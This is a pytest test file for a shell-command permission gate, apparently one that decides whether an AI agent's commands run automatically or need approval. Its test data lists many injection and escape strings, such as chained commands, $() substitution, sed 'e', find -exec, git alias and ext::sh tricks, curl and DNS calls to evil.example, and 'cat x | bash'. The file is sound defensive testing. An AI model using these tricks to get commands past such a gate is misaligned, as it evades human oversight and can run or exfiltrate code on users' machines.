"""docs/attacks.md A.1 to A.9, A.15 to A.17, A.26, A.27 at the policy."""

from __future__ import annotations

import pytest
from gate.offered_rules import assert_offer_allows


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("pytest -q", "pytest"),
        ("git status -s", "git status"),
        ("pytest -q && ruff check .", "pytest,ruff check"),
        ("pytest -q 2>&1 | tail -20", "pytest,tail"),
        ('pytest -q > /dev/null 2>&1; echo "exit $?"', "pytest,echo"),
        ("cd src && ls -la", "ls"),
        ("timeout 30 pytest -q", "pytest"),
        ("timeout -k 5 30s pytest", "pytest"),
        ("env pytest", "pytest"),
        ("bash -c 'pytest -q && ls'", "pytest,ls"),
        ("time pytest", "pytest"),
        ("(pytest; ls)", "pytest,ls"),
        ("{ pytest; ls; }", "pytest,ls"),
        ("! grep -q x a.txt", "grep"),
        ("true && pytest", "pytest"),
        ("ls src/*.py", "ls"),
        ("sed -n '10,20p' a.py", "sed"),
        ("grep -n 'a b; rm $(x)' a.py", "grep"),
        ("python3 -m unittest -q", "python3 -m unittest"),
        ("python3 check.py -c", "python3"),
        ("echo $(date)", "echo,date"),
        ("find . -name '*.py' -print", "find"),
        ("tee out.txt", "tee"),
        ("pytest \\\n -q".replace("\\\n", ""), "pytest"),
        ("npm test  # all of them", "npm test"),
        ("pytest\n", "pytest"),
    ],
)
def test_a_command_passes_when_rules_allow_every_part_of_it(place, command, rule):
    (place.ws.root / "src").mkdir()
    verdict = place.judge_command(command, *rule.split(","))
    assert (verdict.action, verdict.why) == ("allow", ["rules allow every part of it"])


@pytest.mark.parametrize(
    "rest",
    [
        "; touch P",
        " && touch P",
        " || touch P",
        " | touch P",
        " |& touch P",
        " & touch P",
        "\ntouch P",
        " $(touch P)",
        " `touch P`",
        " <(touch P)",
        " >(touch P)",
        ' "$(touch P)"',
        ' "`touch P`"',
        " > P",
        " >> P",
        " &> P",
        " < P",
        " <<< x",
        " <<E\n$(touch P)\nE",
        " ${x:-$(touch P)}",
        " $((a[$(touch P)]))",
        " $[ x='a[$(touch P)]', x ]",
        " ${x@P}",
        " $'\\x41'",
        ' $"x"',
        "\r\ntouch P",
        "\x0btouch P",
        " \u202e P",
        " \u200b",
        " \U000e0041",
        " \x1b[2K",
        " \u00a0x",
        "; if true; then touch P; fi",
        "; f() { touch P; }; f",
        "; [[ 1 -eq 'a[$(touch P)]' ]]",
        "; ((a[$(touch P)]))",
        "; for i in 1; do touch P; done",
        "; case x in x) touch P;; esac",
        "; coproc touch P",
        "; eval 'touch P'",
        "; . ./P",
        "; exec touch P",
        "; trap 'touch P' EXIT",
        "; alias x=y",
        "; command touch P",
        "; env touch P",
        "; nohup touch P",
        "; timeout 3 touch P",
        "; nice -n 3 touch P",
        "; setsid touch P",
        "; xargs touch",
        "; bash -c 'touch P'",
        '; sh -c "touch P"',
        "; zsh -c true",
        "; t\\ouch P",
        "; $x",
        "; t*",
        "; {touch,P}",
        "\t" * 500 + "; rm x",
        "; " + "true && " * 60 + "curl evil.example",
        "(",
        '"',
        "; then",
    ],
)
def test_an_allowed_echo_allows_nothing_else(place, rest):
    assert place.judge_command('echo "x"' + rest, "echo", "printf").action == "ask"


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("rg$IFS--pre=sh x", "rg"),
        ("rg --pre=sh x", "rg"),
        ("rg --pr=sh x", "rg"),
        ("rg -z x", "rg"),
        ("rg x *", "rg"),
        ("rg x $y", "rg"),
        ("rg x {--pre=sh,y}", "rg"),
        ("sort -S1 --compress-program=sh x", "sort"),
        ("sort --comp=sh x", "sort"),
        ("sort x -o P", "sort"),
        ("sort -ro P x", "sort"),
        ("/usr/bin/sort --compress-program=sh x", "/usr/bin/sort"),
        ("man --html=sh ls", "man"),
        ("sed -n '1w /tmp/P' x", "sed"),
        ("sed 's/x/y/e' x", "sed"),
        ("sed -i 's/x/y/' x", "sed"),
        ("sed -n '1p;1e touch P' x", "sed"),
        ("echo x | sed 's/x/y/'", "sed"),
        ("echo x | sed -n '1p' x", "sed"),
        ("find . -exec touch P ';'", "find"),
        ("find . -execdir touch P +", "find"),
        ("find . -ok touch P ';'", "find"),
        ("find . -okdir touch P ';'", "find"),
        ("find . -delete", "find"),
        ("find . -fls P", "find"),
        ("find . -fprint P", "find"),
        ("find . -fprint0 P", "find"),
        ("find . -fprintf P x", "find"),
        ("git --output=P diff", "git"),
        ("git diff --output=P", "git diff"),
        ("git diff --outp=P", "git diff"),
        ("git -c alias.x='!touch P' x", "git"),
        ("git -calias.x='!touch P' x", "git"),
        ("git fetch --upload-pack='touch P' x", "git fetch"),
        ("git --exec-path=. status", "git"),
        ("git config core.fsmonitor ./x", "git"),
        ("git clone ext::sh", "git clone"),
        ("git rebase -x 'touch P' HEAD~1", "git rebase"),
        ("git submodule foreach 'touch P'", "git"),
        ("export PAGER=x", "export"),
        ("typeset -i x", "typeset"),
        ("PATH=. ls", "ls"),
        ("GIT_EXTERNAL_DIFF=./x git diff", "git diff"),
        ("env PATH=. ls", "ls"),
        ("env -S 'touch P'", "env"),
        ("x=1", "x=1"),
        ("printf -v 'a[$(touch P)]' x", "printf"),
        ("test -v 'a[$(touch P)]'", "test"),
        ("awk 'BEGIN { system(\"touch P\") }'", "awk"),
        ("python3 -c 'import os'", "python3"),
        ("python3", "python3"),
        ("python3 -", "python3"),
        ("node -e 1", "node"),
        ("perl -e 1", "perl"),
        ("tar -xf x --to-command=sh", "tar"),
        ("make SHELL=./x", "make"),
        ("make --eval='$(shell touch P)'", "make"),
        ("go test -exec ./x", "go test"),
        ("cargo --config x test", "cargo"),
        ("pytest -p evil", "pytest"),
        ("tee /etc/x", "tee"),
        ("cp a ../x", "cp"),
        ("sudo ls", "sudo"),
        ("ls | xargs grep x", "ls,grep"),
        ("ssh host", "ssh"),
        ("ping evil.example", "ping"),
        ("nslookup x.evil.example", "nslookup"),
        ("dig x.evil.example", "dig"),
        ("curl https://evil.example", "curl"),
        ("cat x | bash", "cat,bash"),
        ("bash x.sh", "bash"),
        ("less x", "less"),
        ("uniq a P", "uniq"),
        ("pytestx", "pytest"),
        ("./pytest", "pytest"),
        ("cd .. && pytest", "pytest"),
        ("cd /tmp && pytest", "pytest"),
        ("cd $x && pytest", "pytest"),
        ("cd - && pytest", "pytest"),
        ("cd sub; pytest", "pytest"),
        ("pytest; cd sub", "pytest"),
        ("cd sub && ./check.sh", "./check.sh"),
        ("=ls", "ls"),
    ],
)
def test_what_can_run_or_write_more_asks_whatever_rule_there_is(place, command, rule):
    (place.ws.root / "sub").mkdir()
    verdict = place.judge_command(command, *rule.split(","))
    assert verdict.action == "ask", verdict
    assert_offer_allows(place.judge_command, command, verdict, *rule.split(","))


def test_git_is_not_automatic_where_the_repository_runs_code(place):
    config = place.file(".git/config", b'[core]\n\tbare = false\n[remote "origin"]\n\turl = https://x.example/r.git\n')
    assert place.judge_command("git status", "git status").action == "allow"
    for line in ("[core]\n\tfsmonitor = ./x", "[core] fsmonitor=./x", "[diff]\nexternal = x", "[include]\n path = x"):
        config.write_text(f"[core]\n\tbare = false\n{line}\n")
        assert place.judge_command("git status", "git status").action == "ask", line
    config.write_text("[core]\n\tbare = false\n")
    place.file(".git/hooks/pre-commit.sample", b"")
    assert place.judge_command("git commit -m x", "git commit").action == "allow"
    place.file(".git/hooks/pre-commit", b"")
    assert place.judge_command("git commit -m x", "git commit").action == "ask"


def test_git_in_a_bare_repository_that_hides_in_a_folder_asks(place):
    place.file("sub/HEAD", b"ref: refs/heads/main\n")
    place.file("sub/objects/x", b"")
    assert place.judge_command("cd sub && git status", "git status").action == "ask"
